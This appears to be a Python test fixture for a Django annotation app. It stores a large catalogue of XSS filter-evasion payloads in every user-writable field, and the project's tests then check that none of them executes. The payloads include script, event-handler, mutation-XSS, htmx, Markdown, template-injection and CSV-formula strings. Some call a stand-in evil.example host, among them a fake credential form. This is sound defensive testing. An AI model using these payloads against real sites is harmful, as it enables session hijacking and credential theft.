"""Well-known XSS filter-evasion payloads, and how the XSS tests store them as real data.

The list follows the usual cheat sheets (OWASP's filter-evasion sheet, PortSwigger's XSS sheet,
the DOMPurify mutation-XSS write-ups) plus what matters here: Markdown link syntax (bodies are
Markdown), htmx attributes (htmx acts on `hx-*` / `data-hx-*` in any HTML it sees), Django
template syntax and spreadsheet formulas (CSV exports). Every payload, if it ever ran, would call
`alert`, `confirm` or `prompt`, load something from `evil.example` or point somewhere with a
non-http(s) scheme, which is what the checks in test_xss.py look for.

`store_everywhere()` writes each payload, through the services, into every field a person can
fill in, then publishes / approves / rejects so that each one appears on the public pages, in the
review queue, the workspace, the history, the feed, the exports and the API.
"""

from dataclasses import dataclass, field

from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.utils.text import slugify

from provisions.models import Annotation, Article, Provision, ProvisionLink
from provisions.search.vectors import update_search_vectors
from provisions.services import (
    annotation_create,
    annotation_publish,
    annotation_reject,
    annotation_submit,
    link_approve,
    link_propose,
    link_reject,
)
from provisions.services.annotations import MAX_TAG_CHARS, MAX_TAGS
from provisions.services.members import member_create
from provisions.services.tokens import MAX_NAME_CHARS, api_token_create
from provisions.text import clean_text

EVIL = "https://evil.example"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS = [
    # --- <script> in many casings and disguises ---
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f'<script src="{EVIL}/x.js"></script>',
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<![CDATA[<script>alert(1)</script>]]>",
    # --- javascript:, data:, vbscript: URLs ---
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript:alert(1)",
    # --- event handlers ---
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<div onmouseover="alert(1)">hover me</div>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    # --- SVG and MathML ---
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # --- CSS ---
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    # --- htmx acts on these wherever they appear ---
    '<a hx-get="/admin/" hx-trigger="load">x</a>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div data-hx-post="/accounts/logout/" data-hx-trigger="load">x</div>',
    '<button hx-post="/review/bulk/" hx-vals=\'{"action": "reject"}\' hx-trigger="load">x</button>',
    '<div hx-get="/" hx-trigger="load[alert(1)]">x</div>',
    '<div hx-vals="js:{a: alert(1)}" hx-get="/" hx-trigger="load">x</div>',
    # --- Markdown ---
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](vbscript:msgbox(1))",
    f"![x]({EVIL}/x.png)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][t]\n\n[t]: https://example.org/ "t\\" onmouseover=\\"alert(1)"',
    '[x](https://example.org/" onclick="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "<div>\n<script>alert(1)</script>\n</div>",
    "`<script>alert(1)</script>`",
    "x\n\n    <script>alert(1)</script>",
    # --- other elements that load or submit elsewhere ---
    f'<form action="{EVIL}/steal"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    f'<base href="{EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    f'<img src="{EVIL}/track.png">',
    '<a href="mailto:x@example.org?subject=<script>alert(1)</script>">mail</a>',
    # --- template injection ---
    "{{ request.user.password }}{{ 7*7 }}",
    "{% debug %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}",
    "${alert(1)}#{7*7}",
    # --- mutation XSS ---
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    # --- spreadsheet formulas (CSV injection) ---
    f'=HYPERLINK("{EVIL}/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # --- control characters in a name or a feed (XML 1.0 forbids most of them) ---
    "\x1b[31m<b>red</b>\x1b[0m \x0b\x0c\x07 alert(1)",
]


def cleaned(payload: str) -> str:
    """What the services keep of a payload as text (control / format characters dropped)."""
    return clean_text(payload).strip()


def tag_name(payload: str) -> str:
    """A payload cut to a tag's length (the hostile start of it is what matters)."""
    name = " ".join(clean_text(payload).split()).lstrip("#")[:MAX_TAG_CHARS]
    return name if slugify(name) else ""


def source_url(payload: str) -> str:
    """An http(s) source whose query string carries the payload (sources have no spaces)."""
    return "https://example.org/source?q=" + "".join(cleaned(payload).split())[:400]


def display_name(payload: str, tag) -> str:
    """A public name carrying the payload's markup. Public names are unique (case-insensitive)
    and hold no e-mail address, so the payload's "@" is spelled out and `tag` tells apart the
    payloads that differ only in case."""
    return f"{' '.join(payload.replace('@', ' at ').split())[:90]} #{tag}"


# Usernames that the account service must refuse (Django's username validator).
HOSTILE_USERNAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "x onmouseover=alert(1)",
]
# The same, stored without the service: as an older import or a database edit could have.
LEGACY_USERNAMES = ['"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>"]


@dataclass
class Stored:
    provision: Provision
    analyst: object
    editor: object
    authors: list = field(default_factory=list)
    published: list = field(default_factory=list)  # one published annotation per payload
    replies: list = field(default_factory=list)
    rejected: list = field(default_factory=list)  # the analyst's, returned with a payload reason
    submitted: list = field(default_factory=list)  # waiting in the review queue
    links: list = field(default_factory=list)

    @property
    def root(self) -> Annotation:
        return self.published[0]


def add_payload_provision(payloads=PAYLOADS) -> Provision:
    """A paragraph of article 24 whose text holds every payload, so that each can be quoted."""
    article = Article.objects.get(number=24)
    parent = article.provisions.get(eid="art_24")
    provision = Provision.objects.create(
        treaty=article.treaty,
        article=article,
        parent=parent,
        eid="art_24__para_9",
        kind=Provision.Kind.PARAGRAPH,
        label="9",
        position=parent.position + 9,
        text="\n".join(cleaned(p) for p in payloads),
    )
    update_search_vectors(provisions=[provision])
    return provision


def _member(username: str, role: str, display: str):
    user, _password = member_create(
        username=username, email=f"{username}@example.org", role=role, display_name=display
    )
    return user


def storable_body(payload: str) -> str:
    """The payload as a note body. Notes refuse Markdown images outright (the service says so),
    so an image payload is stored with its image turned into a link: its hostile address and
    text still reach every page."""
    from provisions.rendering import contains_image

    if not contains_image(payload):
        return payload
    body = payload.replace("![", "[")
    assert not contains_image(body), payload
    return body


def store_everywhere(payloads=PAYLOADS, *, analyst=None, editor=None) -> Stored:
    """Every payload in every field a person can write, in every state a page shows."""
    from tests.helpers import make_member

    provision = add_payload_provision(payloads)
    analyst = analyst or make_member(
        "xss-analyst", "Analysts", display_name(payloads[0], "analyst")
    )
    editor = editor or make_member("xss-editor", "Editors", display_name(payloads[1], "editor"))
    stored = Stored(provision=provision, analyst=analyst, editor=editor)
    for payload in payloads:
        # Personal API tokens are named by their member (shown in the workspace).
        api_token_create(user=analyst, name=payload[:MAX_NAME_CHARS])

    User = get_user_model()
    for name in HOSTILE_USERNAMES:
        try:
            _member(name, "analyst", "")
        except ValidationError as error:
            assert "username" in error.message_dict
        else:
            raise AssertionError(f"the username {name!r} was accepted")
    legacy = []
    for i, name in enumerate(LEGACY_USERNAMES):
        user = _member(f"legacy{i}", "analyst", "")
        User.objects.filter(pk=user.pk).update(username=name)
        user.refresh_from_db()
        legacy.append(user)

    names = [tag_name(p) for p in payloads if tag_name(p)]
    chunks = [names[i : i + MAX_TAGS] for i in range(0, len(names), MAX_TAGS)]
    for i, payload in enumerate(payloads):
        if i < len(legacy):
            author = legacy[i]
        else:
            author = _member(f"author{i}", "analyst", display_name(payload, i))
        stored.authors.append(author)
        quote = cleaned(payload)
        annotation = annotation_create(
            provision=provision,
            author=author,
            body=storable_body(payload),
            selectors=[{"type": "TextQuoteSelector", "exact": quote}],
            concerns=["serious-crime-scope"],
            demands=["consult-civil-society"],
            tags=chunks[i % len(chunks)],
            status=Annotation.Status.SUBMITTED,
        )
        stored.published.append(annotation_publish(annotation=annotation, editor=editor))

    for i, payload in enumerate(payloads):
        reply = annotation_create(
            provision=provision,
            author=stored.authors[(i + 1) % len(stored.authors)],
            body=storable_body(payload),
            in_reply_to=stored.root,
        )
        if i % 2 == 0:
            reply = annotation_publish(annotation=reply, editor=editor)
        stored.replies.append(reply)

    for i, payload in enumerate(payloads):
        draft = annotation_create(
            provision=provision,
            author=analyst,
            body=storable_body(payload),
            selectors=[{"type": "TextQuoteSelector", "exact": cleaned(payload)}],
            tags=[tag_name(payload)] if tag_name(payload) else [],
        )
        if i % 3 == 2:
            # Stays in the review queue.
            stored.submitted.append(annotation_submit(annotation=draft, user=analyst))
            continue
        annotation_submit(annotation=draft, user=analyst)
        stored.rejected.append(annotation_reject(annotation=draft, editor=editor, reason=payload))

    for i, payload in enumerate(payloads):
        link = link_propose(
            provision=provision if i % 2 else provision.parent,
            proposer=analyst,
            rationale=payload,
            concern="serious-crime-scope" if i % 2 else None,
            demand=None if i % 2 else "consult-civil-society",
            sources=[source_url(payload), "https://example.org/plain"],
        )
        if i % 3 == 0:
            link = link_approve(link=link, editor=editor, note=payload)
        elif i % 3 == 1:
            link = link_reject(link=link, editor=editor, reason=payload)
        stored.links.append(link)
    assert ProvisionLink.objects.filter(pk__in=[link.pk for link in stored.links]).count() == len(
        payloads
    )
    return stored
